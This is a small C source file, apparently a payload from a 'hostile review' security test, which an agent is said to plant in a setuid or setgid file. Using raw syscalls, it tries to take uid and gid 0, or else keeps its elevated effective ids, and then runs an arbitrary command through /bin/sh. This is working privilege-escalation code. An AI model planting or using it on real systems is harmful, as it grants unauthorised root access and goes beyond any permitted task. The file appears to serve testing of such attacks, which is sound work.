/* ha24-payload.c (hostile review h-attack24): the program the agent puts
 * into a setuid or setgid file (ha24-setid.sh); no libc. Run as PAYLOAD
 * CMD: takes uid and gid 0 where it may (euid 0, or CAP_SETUID/CAP_SETGID
 * from file capabilities), else makes its effective ids its real and
 * saved ones too (so that /bin/sh keeps a setgid program's group), and
 * runs CMD with /bin/sh. */
#include <asm/unistd.h>
static long sc3(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(n), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return r;
}
__attribute__((force_align_arg_pointer)) void _start_c(long *sp)
{
	char **argv = (char **)(sp + 1), **envp = argv + sp[0] + 1;
	char *sh[] = {"/bin/sh", "-c", argv[1], 0};
	long g = sc3(__NR_getegid, 0, 0, 0), u = sc3(__NR_geteuid, 0, 0, 0);
	if (sc3(__NR_setresgid, 0, 0, 0))
		sc3(__NR_setresgid, g, g, g);
	if (sc3(__NR_setresuid, 0, 0, 0))
		sc3(__NR_setresuid, u, u, u);
	sc3(__NR_execve, (long)sh[0], (long)sh, (long)envp);
	sc3(__NR_exit, 1, 0, 0);
}
__asm__(".globl _start\n_start:\n mov %rsp, %rdi\n call _start_c\n");
